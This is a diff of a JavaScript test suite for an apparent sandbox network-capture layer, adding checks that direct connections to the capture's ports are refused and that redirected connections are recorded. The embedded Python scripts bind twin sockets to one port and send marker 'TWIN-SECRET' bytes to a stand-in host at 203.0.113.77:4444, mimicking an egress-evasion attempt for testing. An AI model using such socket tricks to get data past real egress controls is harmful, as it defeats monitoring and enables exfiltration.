@@ -380,11 +380,14 @@ except Exception: pass"`);
       '    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); return s',
       'a = sock(); a.bind(("192.168.1.23", 0)); port = a.getsockname()[1]',
       'b = sock(); b.bind(("192.168.1.23", port))',
-      'a.connect(("192.168.1.23", 15001)); a.sendall(b"DECOY-BYTES\\n")',
+      'try: a.connect(("192.168.1.23", 15001)); a.sendall(b"DECOY-BYTES\\n")',
+      'except ConnectionRefusedError: print("refused")',
       'b.connect(("203.0.113.77", 4444)); b.sendall(b"TWIN-SECRET\\n")',
       'import time; time.sleep(0.5); a.close(); b.close()',
     ].join('\n');
-    const { events } = await attempt(`python3 -c '${script}'; sleep 2`);
+    const { events, stdout } = await attempt(`python3 -c '${script}'; sleep 2`);
+    // The connection straight to the capture's port is refused, as where nothing listens.
+    assert.equal(stdout.trim(), 'refused');
     const twin = streams(events).find((e) => e.ip === '203.0.113.77');
     assert.ok(twin, `the redirected connection: ${JSON.stringify(streams(events))}`);
     assert.equal(twin.port, 4444);
@@ -435,6 +438,24 @@ except Exception: pass"`);
     // The rules still work afterwards.
     const { events } = await attempt('curl -sS -m 5 http://still-captured.example/');
     assert.ok(streams(events).find((e) => e.host === 'still-captured.example'));
+  });
+
+  it("the capture's ports refuse what is sent straight to them, as where nothing listens", async () => {
+    const script = [
+      'import socket',
+      'for host, fam in (("127.0.0.1", socket.AF_INET), ("192.168.1.23", socket.AF_INET), ("::1", socket.AF_INET6)):',
+      '    for port in (15001, 15002, 15053):',
+      '        s = socket.socket(fam); s.settimeout(2)',
+      '        try: s.connect((host, port)); print(host, port, "open")',
+      '        except OSError as e: print(host, port, type(e).__name__)',
+      '    u = socket.socket(fam, socket.SOCK_DGRAM); u.settimeout(2); u.connect((host, 15053))',
+      '    try: u.send(b"\\0" * 12); u.recv(512); print(host, "dns answered")',
+      '    except OSError as e: print(host, "dns", type(e).__name__)',
+    ].join('\n');
+    const { stdout, events } = await attempt(`python3 -c '${script}'`);
+    assert.doesNotMatch(stdout, /open|answered/, stdout);
+    assert.equal(stdout.match(/ConnectionRefusedError/g)?.length, 12, stdout);
+    assert.deepEqual(streams(events), []);
   });
 
   it("the user's runtime folder is there, the user's own, and empty", async () => {
